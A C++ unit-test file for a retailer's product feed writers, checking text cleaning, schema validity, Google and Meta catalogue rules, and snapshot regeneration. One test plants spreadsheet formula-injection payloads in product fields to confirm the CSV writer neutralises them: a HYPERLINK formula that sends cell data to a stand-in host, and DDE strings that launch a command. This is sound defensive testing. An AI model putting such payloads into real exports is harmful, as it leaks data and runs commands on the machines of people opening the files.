// The feed writers: text rules, hostile input, every format of a demo retailer validated
// against its schema, the Google rules over every item, and a platform following the change
// feed ending where a fresh full feed is.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <fstream>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <thread>

#include "../store/temp_dir.h"
#include "common/csv.h"
#include "common/csv_writer.h"
#include "common/gtin.h"
#include "common/text.h"
#include "feed_validation.h"
#include "feeds/feed.h"
#include "feeds/feed_text.h"
#include "feeds/sample.h"
#include "feeds/snapshots.h"
#include "store/memory_database.h"
#include "store/sqlite_database.h"

namespace vitrine {
namespace {

using testing::First;
using ::testing::HasSubstr;
using ::testing::Not;
using testing::ReadRssItems;

// --------------------------------------------------------------------------------------------
// Text rules

TEST(FeedTextTest, RemovesWhatXmlForbidsAndFoldsWhiteSpace) {
  EXPECT_EQ(CleanFeedText("  a\tb\r\n\nc  "), "a b c");
  EXPECT_EQ(CleanFeedText(std::string("x\x01y\x1Fz\x7F", 6) + "\xC2\x85w"), "xyzw");
  EXPECT_EQ(CleanFeedText("caf\xC3\xA9 \xFF\xFE ok"), "caf\xC3\xA9 ok");
  EXPECT_EQ(CleanFeedText("\xEF\xBF\xBE"
                          "a"),
            "a");                                                    // U+FFFE
  EXPECT_EQ(CleanFeedText("\xF0\x9F\x8D\xAB"), "\xF0\x9F\x8D\xAB");  // emoji kept
  EXPECT_EQ(CleanFeedText("\xED\xA0\x80z"), "z");  // an encoded surrogate is not UTF-8
  EXPECT_TRUE(IsValidUtf8(CleanFeedText("\xC3(\xE2\x82\xF0\x9F\x98")));
}

TEST(FeedTextTest, CutsAtAWordBoundaryCountingCharacters) {
  EXPECT_EQ(CutAtWord("Chocolat noir intense", 15), "Chocolat noir");
  EXPECT_EQ(CutAtWord("Chocolat noir intense", 13), "Chocolat noir");
  EXPECT_EQ(CutAtWord("Chocolat noir", 50), "Chocolat noir");
  EXPECT_EQ(CutAtWord("Supercalifragilistic", 5), "Super");
  // Characters, not bytes: "é" is two bytes and one character.
  EXPECT_EQ(CutAtWord("été été été", 7), "été été");
  EXPECT_EQ(CountCodePoints(CutAtWord("ééééé", 3)), 3u);
}

TEST(FeedTextTest, EscapesTheFiveXmlSpecialCharacters) {
  std::string out;
  AppendXmlEscaped("a&b<c>d\"e'f", &out);
  EXPECT_EQ(out, "a&amp;b&lt;c&gt;d&quot;e&apos;f");
}

TEST(FeedFormatTest, EveryFormatHasOneNamePathAndChannel) {
  std::set<std::string_view> names, paths;
  for (const FeedFormatInfo& info : AllFeedFormats()) {
    EXPECT_TRUE(names.insert(info.name).second);
    EXPECT_TRUE(paths.insert(info.url_path).second);
    EXPECT_EQ(ParseFeedFormat(info.name), info.format);
    EXPECT_EQ(ParseFeedFormat(info.url_path), info.format);
  }
  EXPECT_EQ(AllFeedFormats().size(), 7u);
  EXPECT_FALSE(ParseFeedFormat("google"));
}

// --------------------------------------------------------------------------------------------
// Shared checks

struct Written {
  std::string path;
  FeedStats stats;
};

Written Write(FeedFormat format, const FeedSources& sources, const std::string& dir, Instant now,
              std::string store = "", std::string campaign = "") {
  const std::string path =
      dir + "/" + (store.empty() ? "" : store + "-") + std::string(InfoOf(format).file_name);
  auto sink = FeedSink::ToFile(path);
  EXPECT_TRUE(sink.ok()) << sink.status().ToString();
  FeedRequest request{format, std::move(store), std::move(campaign), now, ""};
  auto stats = WriteFeed(request, sources, FeedSettings{}, **sink);
  EXPECT_TRUE(stats.ok()) << stats.status().ToString();
  EXPECT_TRUE((*sink)->Finish(false).ok());
  return {path, stats.ok() ? *stats : FeedStats{}};
}

std::string SchemaOf(FeedFormat format) {
  switch (format) {
    case FeedFormat::kGoogleProducts:
      return "google-products.rng";
    case FeedFormat::kGoogleLocalInventory:
      return "google-local-inventory.rng";
    case FeedFormat::kGooglePromotions:
      return "google-promotions.rng";
    case FeedFormat::kMetaCatalog:
      return "meta-catalog.rng";
    case FeedFormat::kLeafletJson:
      return "leaflet.schema.json";
    case FeedFormat::kLeafletXml:
      return "leaflet.rng";
    case FeedFormat::kOffersCsv:
      return "";
  }
  return "";
}

// Validates a written feed against its schema; CSV is read back record by record.
void ExpectValid(FeedFormat format, const Written& w) {
  SCOPED_TRACE(w.path);
  std::string text;
  {
    std::ifstream in(w.path, std::ios::binary);
    std::stringstream buffer;
    buffer << in.rdbuf();
    text = buffer.str();
  }
  EXPECT_TRUE(IsValidUtf8(text));
  if (format == FeedFormat::kLeafletJson) {
    EXPECT_EQ(testing::JsonSchemaErrors(SchemaOf(format), w.path), "");
  } else if (format == FeedFormat::kOffersCsv) {
    std::istringstream in(text);
    CsvReader reader(in);
    int64_t records = 0;
    size_t columns = 0;
    CsvRecord record;
    while (reader.Next(&record)) {
      ASSERT_TRUE(record.ok());
      if (records++ == 0) columns = record.fields.size();
      EXPECT_EQ(record.fields.size(), columns);
    }
    EXPECT_EQ(records, w.stats.items + 1);
  } else {
    EXPECT_EQ(testing::RelaxNgErrors(SchemaOf(format), w.path), "");
    // One element per line: no line of an RSS feed holds two item fields.
    if (format != FeedFormat::kLeafletXml) {
      std::istringstream lines(text);
      std::string line;
      while (std::getline(lines, line)) {
        EXPECT_LE(std::count(line.begin(), line.end(), '<'), 2) << line;
      }
    }
  }
}

const std::regex kPrice(R"(\d+\.\d{2} EUR)");
const std::regex kGoogleDate(
    R"(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{4}/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{4})");

int64_t Cents(const std::string& price) {
  return std::llround(std::strtod(price.c_str(), nullptr) * 100);
}

// The Google rules over every item of the products and local inventory feeds, and the
// promotion ids of the products feed against the promotions feed.
void ExpectGoogleRules(const std::string& products_path, const std::string& inventory_path,
                       const std::string& promotions_path) {
  std::set<std::string> promotion_ids;
  for (const auto& item : ReadRssItems(promotions_path)) {
    const std::string id = First(item, "g:promotion_id");
    EXPECT_TRUE(std::regex_match(id, std::regex("[A-Za-z0-9_-]{1,50}"))) << id;
    EXPECT_TRUE(promotion_ids.insert(id).second) << "promotion listed twice: " << id;
    EXPECT_LE(CountCodePoints(First(item, "g:long_title")), 60u);
  }
  std::set<std::string> used_promotions;
  auto check_prices = [](const testing::FeedItem& item) {
    const std::string price = First(item, "g:price");
    EXPECT_TRUE(std::regex_match(price, kPrice)) << price;
    if (item.count("g:sale_price")) {
      const std::string sale = First(item, "g:sale_price");
      EXPECT_TRUE(std::regex_match(sale, kPrice)) << sale;
      EXPECT_LT(Cents(sale), Cents(price));
      const std::string date = First(item, "g:sale_price_effective_date");
      EXPECT_TRUE(std::regex_match(date, kGoogleDate)) << date;
      EXPECT_LE(date.size(), 51u);
    }
  };
  const auto products = ReadRssItems(products_path);
  std::set<std::string> ids;
  for (const auto& item : products) {
    for (const char* required : {"g:id", "g:title", "g:description", "g:link", "g:image_link",
                                 "g:availability", "g:price", "g:condition"}) {
      EXPECT_EQ(item.count(required), 1u) << required << " of " << First(item, "g:id");
    }
    const std::string id = First(item, "g:id");
    EXPECT_TRUE(ids.insert(id).second) << "product listed twice: " << id;
    EXPECT_LE(id.size(), 50u);
    EXPECT_LE(CountCodePoints(First(item, "g:title")), 150u);
    EXPECT_LE(CountCodePoints(First(item, "g:description")), 5000u);
    check_prices(item);
    if (item.count("g:gtin")) {
      auto gtin = Gtin::Parse(First(item, "g:gtin"));
      ASSERT_TRUE(gtin.ok()) << First(item, "g:gtin") << ": " << gtin.status().ToString();
      EXPECT_FALSE(gtin->IsRestricted()) << gtin->digits();
      const std::string& d = gtin->digits();
      for (const char* prefix : {"2", "02", "04", "98", "99"}) {
        EXPECT_FALSE(gtin->ToGtin14().substr(1).starts_with(prefix) && d.size() == 13) << d;
      }
      EXPECT_EQ(item.count("g:identifier_exists"), 0u);
    } else if (!item.count("g:mpn")) {
      EXPECT_EQ(First(item, "g:identifier_exists"), "no") << id;
    }
    EXPECT_LE(item.count("g:promotion_id"), 10u);
    for (auto [it, end] = item.equal_range("g:promotion_id"); it != end; ++it) {
      EXPECT_TRUE(promotion_ids.count(it->second)) << it->second << " not in promotions";
      used_promotions.insert(it->second);
    }
  }
  EXPECT_EQ(used_promotions, promotion_ids) << "a promotion no product names";
  std::set<std::pair<std::string, std::string>> pairs;
  for (const auto& item : ReadRssItems(inventory_path)) {
    for (const char* required :
         {"g:id", "g:store_code", "g:availability", "g:quantity", "g:price"}) {
      EXPECT_EQ(item.count(required), 1u) << required;
    }
    EXPECT_TRUE(pairs.insert({First(item, "g:id"), First(item, "g:store_code")}).second)
        << "product × store twice: " << First(item, "g:id") << " " << First(item, "g:store_code");
    EXPECT_LE(First(item, "g:id").size(), 50u);
    check_prices(item);
  }
}

// --------------------------------------------------------------------------------------------
// Hostile input

const Instant kNow = FromUnixSeconds(1795500000);  // 2026-11-24, a Tuesday

class HostileFeedsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    Store paris;
    paris.id = "S-PARIS";
    paris.name = "Paris & <Co>";
    paris.services = {"click_and_collect"};
    paris.price_zone = "Z1";
    Store martinique = paris;
    martinique.id = "S-FDF";
    martinique.timezone = "America/Martinique";
    martinique.services = {};
    ASSERT_TRUE(db_.PutStores(std::vector<Store>{paris, martinique}, kNow).ok());

    const std::string long_text = [] {
      std::string s;
      while (s.size() < 10240) s += "Tablette \"fine\" & <croquante> 'pure' 🍫 שוקולד ";
      return s;
    }();
    Product hostile;
    hostile.id = "P-HOSTILE";
    hostile.gtin = *Gtin::Parse("3017620422003");
    hostile.title = std::string("Crème \"brûlée\" & <b>chocolat</b> 'noir' \x01\x1F\x7F ") +
                    "🍫 شوكولاتة \xD7\xA9\xD7\x95 \xFF\xFE\xC3( " + long_text;
    hostile.brand = "L'Atelier <Cacao> & Fils";
    hostile.description = long_text + "\x0B\x0C end";
    hostile.category = "Épicerie > Chocolat";
    hostile.google_category = "Food, Beverages & Tobacco > Food Items > Candy & Chocolate";
    hostile.net_quantity = *Quantity::Parse("6 x 33 cl");
    hostile.image_url = "https://img.example/p?id=1&size=large";
    Product no_image;
    no_image.id = "P-NOIMAGE";
    no_image.title = "Sans image";
    Product in_store = hostile;
    in_store.id = "P-INSTORE";
    const std::string body = "200123400001";
    in_store.gtin = *Gtin::Parse(body + std::to_string(Gtin::CheckDigit(body)));
    in_store.brand = "";
    in_store.description = "";
    ASSERT_TRUE(db_.PutProducts(std::vector<Product>{hostile, no_image, in_store}, kNow).ok());

    Campaign campaign;
    campaign.name = "Semaine du <chocolat> & des \"amis\"";
    campaign.description = "Tout à -30 % \x01";
    campaign.start_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) - 86400));
    campaign.end_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) + 6 * 86400));
    campaign.channels = {"google", "meta", "leaflet", "csv"};
    campaign.status = CampaignStatus::kApproved;
    auto created = db_.CreateCampaign(campaign, kNow);
    ASSERT_TRUE(created.ok());
    campaign_id_ = created->id;
    Promotion promotion;
    promotion.campaign_id = campaign_id_;
    promotion.selector.product_ids = {"P-HOSTILE", "P-NOIMAGE", "P-INSTORE"};
    promotion.mechanic = PercentOff{30};
    auto p = db_.CreatePromotion(promotion);
    ASSERT_TRUE(p.ok());

    std::vector<PublishedOffer> offers;
    for (const char* product : {"P-HOSTILE", "P-NOIMAGE", "P-INSTORE"}) {
      for (const Store* store : {&paris, &martinique}) {
        PublishedOffer o;
        o.offer_id = p->id + "~" + product;
        o.store_id = store->id;
        o.campaign_id = campaign_id_;
        o.promotion_id = p->id;
        o.product_id = product;
        o.category = "Épicerie > Chocolat";
        o.channels = {"csv", "google", "leaflet", "meta"};
        o.validity = {kNow - std::chrono::hours(20), kNow + std::chrono::hours(140)};
        o.timezone = store->timezone;
        o.regular_price = Money::Euros(349);
        o.shelf_price = Money::Euros(244);
        o.effective_unit_price = Money::Euros(244);
        o.unit_price = Money::Euros(1232);
        o.unit_pricing_base = "1 l";
        o.reference_price = Money::Euros(349);
        o.discount_percent = 30;
        o.mechanic = "percent_off";
        o.mechanic_parameters = {{"percent", 30}};
        o.badge = "-30%";
        o.headline = "2,44 € au lieu de 3,49 € <promo> & \"plus\"";
        o.legal = "Prix de référence : 3,49 €";
        o.stock_quantity = store == &paris ? 12 : -3;
        o.availability = store == &paris ? Availability::kInStock : Availability::kOutOfStock;
        o.content_hash = ContentHash(o);
        offers.push_back(o);
      }
    }
    ASSERT_TRUE(db_.ReplaceOffers({{p->id}, {}, {}}, offers).ok());
  }

  MemoryDatabase db_;
  FeedSources sources_{&db_, &db_, &db_};
  std::string campaign_id_;
  testing::TempDir dir_;
};

TEST_F(HostileFeedsTest, EveryFormatStaysValid) {
  for (const FeedFormatInfo& info : AllFeedFormats()) {
    for (const std::string store : {"", "S-FDF"}) {
      SCOPED_TRACE(std::string(info.name) + " store=" + store);
      const Written w = Write(info.format, sources_, dir_.path(), kNow, store);
      ExpectValid(info.format, w);
      EXPECT_GT(w.stats.items, 0);
    }
  }
}

TEST_F(HostileFeedsTest, GoogleProductsFollowThePlatformRules) {
  const Written products = Write(FeedFormat::kGoogleProducts, sources_, dir_.path(), kNow);
  const Written inventory = Write(FeedFormat::kGoogleLocalInventory, sources_, dir_.path(), kNow);
  const Written promotions = Write(FeedFormat::kGooglePromotions, sources_, dir_.path(), kNow);
  ExpectGoogleRules(products.path, inventory.path, promotions.path);
  EXPECT_EQ(products.stats.skipped_by_reason.at("missing_image"), 1);
  std::map<std::string, testing::FeedItem> by_id;
  for (auto& item : ReadRssItems(products.path)) by_id[First(item, "g:id")] = item;
  ASSERT_EQ(by_id.size(), 2u);
  const auto& hostile = by_id.at("P-HOSTILE");
  const std::string title = First(hostile, "g:title");
  EXPECT_THAT(title, HasSubstr("Crème \"brûlée\" & <b>chocolat</b> 'noir' 🍫 شوكولاتة"));
  EXPECT_LE(CountCodePoints(title), 150u);
  EXPECT_NE(title.back(), ' ');
  EXPECT_EQ(First(hostile, "g:gtin"), "3017620422003");
  EXPECT_EQ(First(hostile, "g:unit_pricing_measure"), "198cl");
  EXPECT_EQ(First(hostile, "g:unit_pricing_base_measure"), "1l");
  // In-store GTIN: never sent, and Google is told there is no identifier.
  const auto& in_store = by_id.at("P-INSTORE");
  EXPECT_EQ(in_store.count("g:gtin"), 0u);
  EXPECT_EQ(First(in_store, "g:identifier_exists"), "no");
  // The description falls back to the title when the product has none.
  EXPECT_EQ(First(in_store, "g:description"), First(in_store, "g:title"));
}

TEST_F(HostileFeedsTest, LocalInventoryDatesAreInEachStoresOffset) {
  const Written inventory = Write(FeedFormat::kGoogleLocalInventory, sources_, dir_.path(), kNow);
  std::map<std::string, std::string> date_by_store;
  for (auto& item : ReadRssItems(inventory.path)) {
    date_by_store[First(item, "g:store_code")] = First(item, "g:sale_price_effective_date");
    if (First(item, "g:store_code") == "S-FDF") {
      EXPECT_EQ(First(item, "g:quantity"), "0");  // negative stock is 0
      EXPECT_EQ(First(item, "g:availability"), "out_of_stock");
      EXPECT_EQ(item.count("g:pickup_method"), 0u);
    } else {
      EXPECT_EQ(First(item, "g:pickup_method"), "buy");
    }
  }
  EXPECT_THAT(date_by_store.at("S-PARIS"), HasSubstr("+0100/"));
  EXPECT_THAT(date_by_store.at("S-FDF"), HasSubstr("-0400/"));
  EXPECT_EQ(date_by_store.at("S-PARIS"), "2026-11-23T11:00+0100/2026-11-30T02:59+0100");
}

TEST_F(HostileFeedsTest, MetaUsesSpacesAndItsOwnDateFormat) {
  const Written meta = Write(FeedFormat::kMetaCatalog, sources_, dir_.path(), kNow);
  const auto items = ReadRssItems(meta.path);
  // P-NOIMAGE has no image; P-INSTORE no brand, no usable GTIN and no MPN.
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(meta.stats.skipped_by_reason.at("missing_image"), 1);
  EXPECT_EQ(meta.stats.skipped_by_reason.at("missing_identifier"), 1);
  for (const auto& item : items) {
    EXPECT_EQ(First(item, "g:availability"), "in stock");
    EXPECT_TRUE(std::regex_match(
        First(item, "g:sale_price_effective_date"),
        std::regex(
            R"(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{2}:\d{2}/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{2}:\d{2})")));
    EXPECT_NE(First(item, "g:description"), First(item, "g:title"));
  }
}

// Titles, brands and descriptions written to trigger a spreadsheet formula come out of the
// offers CSV as text: each free-text cell that would start with = + - @, a tab or a CR gets
// a leading apostrophe; ids, prices, numbers and dates are untouched.
TEST_F(HostileFeedsTest, OffersCsvNeutralisesCellsThatStartLikeAFormula) {
  Product formula;
  formula.id = "P-HOSTILE";
  formula.title = "=HYPERLINK(\"http://x.example/steal?\"&A1,\"Promo\")";
  formula.brand = "@SUM(1+1)*cmd|' /C calc'!A0";
  formula.description = "+cmd|' /C calc'!A0";
  formula.image_url = "https://img.example/p.jpg";
  Product tab = formula;
  tab.id = "P-NOIMAGE";
  tab.title = "\t=1+1";
  tab.brand = "-2+3";
  Product cr = formula;
  cr.id = "P-INSTORE";
  cr.title = "\r\n=1+1";
  cr.brand = "+33";
  ASSERT_TRUE(db_.PutProducts(std::vector<Product>{formula, tab, cr}, kNow).ok());

  const Written w = Write(FeedFormat::kOffersCsv, sources_, dir_.path(), kNow);
  ExpectValid(FeedFormat::kOffersCsv, w);
  std::ifstream file(w.path, std::ios::binary);
  CsvReader reader(file);
  CsvRecord record;
  ASSERT_TRUE(reader.Next(&record));
  std::map<std::string, size_t> column;
  for (size_t i = 0; i < record.fields.size(); ++i) column[std::string(record.fields[i])] = i;
  const std::set<std::string> text_columns = {"title",    "brand", "category", "unit_pricing_base",
                                              "mechanic", "badge", "headline", "legal"};
  std::map<std::string, std::string> titles, brands;
  int rows = 0;
  while (reader.Next(&record)) {
    ASSERT_TRUE(record.ok());
    ++rows;
    for (const auto& [name, i] : column) {
      const std::string cell(record.fields[i]);
      if (text_columns.count(name)) {
        EXPECT_FALSE(CsvWriter::StartsLikeFormula(cell)) << name << ": " << cell;
      }
    }
    const std::string product(record.fields[column.at("product_id")]);
    titles[product] = record.fields[column.at("title")];
    brands[product] = record.fields[column.at("brand")];
    // The badge "-30%" is text; prices and dates stay as they are.
    EXPECT_EQ(record.fields[column.at("badge")], "'-30%");
    EXPECT_EQ(record.fields[column.at("regular_price")], "3.49");
    EXPECT_EQ(record.fields[column.at("discount_percent")], "30");
    EXPECT_THAT(record.fields[column.at("valid_from")], ::testing::StartsWith("2026-11-2"));
  }
  EXPECT_EQ(rows, 6);
  EXPECT_EQ(titles["P-HOSTILE"], "'" + formula.title);
  EXPECT_EQ(brands["P-HOSTILE"], "'" + formula.brand);
  EXPECT_EQ(titles["P-NOIMAGE"], "'=1+1");  // the tab is folded away, the formula still caught
  EXPECT_EQ(brands["P-NOIMAGE"], "'-2+3");
  EXPECT_EQ(titles["P-INSTORE"], "'=1+1");
  EXPECT_EQ(brands["P-INSTORE"], "'+33");
}

// Meta flags an item whose description is empty or the title again: such an item gets one
// composed of the brand, net quantity, shelf, unit price, headline and legal text; a real
// description is kept.
TEST(MetaCatalogTest, ADescriptionThatIsMissingOrTheTitleIsComposedFromWhatIsKnown) {
  MemoryDatabase db;
  Store store;
  store.id = "S1";
  store.name = "Magasin";
  store.price_zone = "Z1";
  ASSERT_TRUE(db.PutStores(std::vector<Store>{store}, kNow).ok());
  Product same;
  same.id = "P-SAME";
  same.gtin = *Gtin::Parse("3017620422003");
  same.title = "Café moulu Lavazza 250 g";
  same.description = "  café MOULU  lavazza 250 g ";  // the title again, spaced and cased
  same.brand = "Lavazza";
  same.category = "Épicerie > Café";
  same.net_quantity = *Quantity::Parse("250 g");
  same.image_url = "https://img.example/same.jpg";
  Product none = same;
  none.id = "P-NONE";
  none.title = "Bière blonde";
  none.description = "";
  none.brand = "Brasserie";
  none.category = "";
  none.net_quantity = *Quantity::Parse("6 x 25 cl");
  Product kept = same;
  kept.id = "P-KEPT";
  kept.description = "Un arabica doux, torréfié en Italie.";
  ASSERT_TRUE(db.PutProducts(std::vector<Product>{same, none, kept}, kNow).ok());
  Campaign campaign;
  campaign.name = "Semaine";
  campaign.start_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) - 86400));
  campaign.end_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) + 6 * 86400));
  campaign.channels = {"meta"};
  campaign.status = CampaignStatus::kApproved;
  auto created = db.CreateCampaign(campaign, kNow);
  ASSERT_TRUE(created.ok());
  Promotion promotion;
  promotion.campaign_id = created->id;
  promotion.selector.product_ids = {"P-SAME", "P-NONE", "P-KEPT"};
  promotion.mechanic = PercentOff{20};
  auto promo = db.CreatePromotion(promotion);
  ASSERT_TRUE(promo.ok());
  std::vector<PublishedOffer> offers;
  for (const Product* product : {&same, &none, &kept}) {
    PublishedOffer o;
    o.offer_id = promo->id + "~" + product->id;
    o.store_id = "S1";
    o.campaign_id = created->id;
    o.promotion_id = promo->id;
    o.product_id = product->id;
    o.channels = {"meta"};
    o.validity = {kNow - std::chrono::hours(20), kNow + std::chrono::hours(140)};
    o.timezone = "Europe/Paris";
    o.regular_price = Money::Euros(500);
    o.shelf_price = Money::Euros(400);
    o.effective_unit_price = Money::Euros(400);
    if (product == &same || product == &kept) {
      o.unit_price = Money::Euros(1600);
      o.unit_pricing_base = "1 kg";
      o.headline = "4,00 € au lieu de 5,00 €";
    }
    o.legal = product == &none ? "L'abus d'alcool est dangereux pour la santé." : "";
    o.mechanic = "percent_off";
    o.mechanic_parameters = {{"percent", 20}};
    o.badge = "-20%";
    o.stock_quantity = 5;
    o.availability = Availability::kInStock;
    o.content_hash = ContentHash(o);
    offers.push_back(o);
  }
  ASSERT_TRUE(db.ReplaceOffers({{promo->id}, {}, {}}, offers).ok());

  testing::TempDir dir;
  FeedSources sources{&db, &db, &db};
  const Written meta = Write(FeedFormat::kMetaCatalog, sources, dir.path(), kNow);
  ExpectValid(FeedFormat::kMetaCatalog, meta);
  std::map<std::string, std::string> description;
  for (const auto& item : ReadRssItems(meta.path)) {
    EXPECT_NE(ToLowerAscii(First(item, "g:description")), ToLowerAscii(First(item, "g:title")));
    description[First(item, "g:id")] = First(item, "g:description");
  }
  ASSERT_EQ(description.size(), 3u);
  EXPECT_EQ(description["P-SAME"],
            "Marque : Lavazza. Contenance : 250 g. Rayon : Épicerie > Café. Prix pour 1 kg : "
            "16,00 €. 4,00 € au lieu de 5,00 €.");
  // No shelf, unit price or headline: the price stands in, and the legal text ends it.
  EXPECT_EQ(description["P-NONE"],
            "Marque : Brasserie. Contenance : 6 x 25 cl. Prix : 4,00 €. L'abus d'alcool est "
            "dangereux pour la santé.");
  EXPECT_EQ(description["P-KEPT"], kept.description);
}

TEST_F(HostileFeedsTest, UnknownStoreOrCampaignIsNotFound) {
  auto sink = FeedSink::ToFile(dir_.File("x.xml"));
  ASSERT_TRUE(sink.ok());
  auto r =
      WriteFeed({FeedFormat::kGoogleProducts, "S-NOWHERE", "", kNow, ""}, sources_, {}, **sink);
  EXPECT_EQ(r.status().code(), StatusCode::kNotFound);
  r = WriteFeed({FeedFormat::kLeafletJson, "", "C99999999", kNow, ""}, sources_, {}, **sink);
  EXPECT_EQ(r.status().code(), StatusCode::kNotFound);
}

TEST_F(HostileFeedsTest, EndedOffersAndOtherChannelsAreLeftOut) {
  const Written later =
      Write(FeedFormat::kOffersCsv, sources_, dir_.path(), kNow + std::chrono::hours(200));
  EXPECT_EQ(later.stats.items, 0);
  const Written now = Write(FeedFormat::kOffersCsv, sources_, dir_.path(), kNow);
  EXPECT_EQ(now.stats.items, 6);
  // A platform's view of the CSV holds its own channel only.
  auto sink = FeedSink::ToFile(dir_.File("webhooks.csv"));
  ASSERT_TRUE(sink.ok());
  FeedRequest webhooks{FeedFormat::kOffersCsv, "", "", kNow, "webhooks"};
  auto stats = WriteFeed(webhooks, sources_, {}, **sink);
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats->items, 0);
}

TEST_F(HostileFeedsTest, SnapshotsRegenerateInTheBackgroundAndEvictVariants) {
  ManualClock clock(kNow);
  FeedSnapshotOptions options;
  options.dir = dir_.File("snapshots");
  options.debounce = std::chrono::milliseconds(10);
  options.max_variants = 1;
  options.clock = &clock;
  FeedSnapshots snapshots(sources_, options);
  auto first = snapshots.Get({FeedFormat::kOffersCsv, "", "", ""});
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_TRUE(std::filesystem::exists(first->path));
  EXPECT_TRUE(std::filesystem::exists(first->gzip_path));
  EXPECT_EQ(snapshots.Get({FeedFormat::kGoogleProducts, "NOWHERE", "", ""}).status().code(),
            StatusCode::kNotFound);

  // The offers end: once marked stale, the background thread writes the empty feed.
  snapshots.Start();
  clock.Advance(std::chrono::hours(200));
  snapshots.MarkStale();
  std::string etag = first->etag;
  for (int i = 0; i < 3000 && etag == first->etag; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
    auto now = snapshots.Get({FeedFormat::kOffersCsv, "", "", ""});
    ASSERT_TRUE(now.ok());
    etag = now->etag;
  }
  EXPECT_NE(etag, first->etag) << "never regenerated";
  snapshots.Stop();

  // One variant kept: the least recently pulled one goes, with its files.
  auto paris = snapshots.Get({FeedFormat::kLeafletJson, "S-PARIS", "", ""});
  ASSERT_TRUE(paris.ok());
  auto fdf = snapshots.Get({FeedFormat::kLeafletJson, "S-FDF", "", ""});
  ASSERT_TRUE(fdf.ok());
  EXPECT_FALSE(std::filesystem::exists(paris->path));
  EXPECT_TRUE(std::filesystem::exists(fdf->path));
}

// Nodes of one hub regenerate their snapshots at their own instants; the leaflet's
// generated_at is the content's (the offers' last publication, or a campaign start or end
// passed since), read from the database, so every node writes the same bytes and ETag.
TEST_F(HostileFeedsTest, EveryNodeWritesTheSameLeafletWhenItRegenerates) {
  const Instant published = kNow - std::chrono::hours(1);
  ASSERT_TRUE(db_.RecordAssemblyRun({published, std::chrono::milliseconds(5), 6}).ok());
  std::optional<Instant> boundary = kNow - std::chrono::hours(20);
  auto snapshot_at = [&](Instant now, const std::string& dir, FeedFormat format) {
    ManualClock clock(now);
    FeedSnapshotOptions options;
    options.dir = dir_.File(dir);
    options.clock = &clock;
    options.last_boundary = [&](Instant at) -> Result<std::optional<Instant>> {
      EXPECT_EQ(at, now);
      return boundary;
    };
    FeedSnapshots snapshots(sources_, options);
    auto snapshot = snapshots.Get({format, "", "", ""});
    EXPECT_TRUE(snapshot.ok()) << snapshot.status().ToString();
    std::string bytes;
    if (snapshot.ok()) std::getline(std::ifstream(snapshot->path), bytes, '\0');
    return bytes;
  };
  for (FeedFormat format : {FeedFormat::kLeafletJson, FeedFormat::kLeafletXml}) {
    const std::string a = snapshot_at(kNow, "node-a", format);
    const std::string b = snapshot_at(kNow + std::chrono::minutes(37), "node-b", format);
    EXPECT_EQ(a, b);
    EXPECT_THAT(a, HasSubstr(FormatUtc(published))) << a.substr(0, 200);
  }
  auto generated_at = [&](Instant now, const std::string& dir) {
    return nlohmann::json::parse(snapshot_at(now, dir, FeedFormat::kLeafletJson))["generated_at"];
  };
  // A campaign boundary after the publication changed the content: it is the instant.
  boundary = kNow - std::chrono::minutes(10);
  EXPECT_EQ(generated_at(kNow, "boundary"), FormatUtc(kNow - std::chrono::minutes(10)));
  // A clock behind the publisher's never says a later instant than its own.
  boundary.reset();
  EXPECT_EQ(generated_at(published - std::chrono::minutes(5), "behind"),
            FormatUtc(published - std::chrono::minutes(5)));
}

// A regeneration that cannot write its file (here a directory stands where its temporary
// file goes, as a full or failing disk would refuse it) fails with an I/O error, and the
// snapshot before it stays served, its file intact.
TEST_F(HostileFeedsTest, ASnapshotThatCannotBeWrittenLeavesThePreviousOneServed) {
  ManualClock clock(kNow);
  FeedSnapshotOptions options;
  options.dir = dir_.File("snapshots");
  options.clock = &clock;
  FeedSnapshots snapshots(sources_, options);
  const FeedKey key{FeedFormat::kOffersCsv, "", "", ""};
  auto first = snapshots.Get(key);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  std::string before;
  std::getline(std::ifstream(first->path), before, '\0');
  ASSERT_FALSE(before.empty());

  std::string next = first->path;
  const size_t generation = next.rfind(".1.");
  ASSERT_NE(generation, std::string::npos) << next;
  next.replace(generation, 3, ".2.");
  std::filesystem::create_directories(next + ".tmp");
  clock.Advance(std::chrono::hours(200));  // the offers end: the feed would change
  snapshots.MarkStale();
  const Status failed = snapshots.RegenerateStale();
  EXPECT_EQ(failed.code(), StatusCode::kIoError) << failed.ToString();

  auto served = snapshots.Get(key);
  ASSERT_TRUE(served.ok());
  EXPECT_EQ(served->path, first->path);
  EXPECT_EQ(served->etag, first->etag);
  std::string after;
  std::getline(std::ifstream(served->path), after, '\0');
  EXPECT_EQ(after, before);

  std::filesystem::remove(next + ".tmp");
  ASSERT_TRUE(snapshots.RegenerateStale().ok());  // it stayed stale: the next try writes it
  auto regenerated = snapshots.Get(key);
  ASSERT_TRUE(regenerated.ok());
  EXPECT_NE(regenerated->etag, first->etag);
}

TEST(FeedSinkTest, GzipTwinHoldsTheSameBytes) {
  testing::TempDir dir;
  auto sink = FeedSink::ToFile(dir.File("f.xml"), dir.File("f.xml.gz"), 6);
  ASSERT_TRUE(sink.ok());
  for (int i = 0; i < 50000; ++i) {
    (*sink)->Append("<item>" + std::to_string(i) + "</item>\n");
    (*sink)->Commit();
  }
  ASSERT_TRUE((*sink)->Finish(true).ok());
  std::string plain, unzipped;
  const std::string command =
      "gzip -dc '" + dir.File("f.xml.gz") + "' | cmp - '" + dir.File("f.xml") + "'";
  EXPECT_EQ(std::system(command.c_str()), 0);
  EXPECT_EQ((*sink)->bytes(), static_cast<int64_t>(std::filesystem::file_size(dir.File("f.xml"))));
}

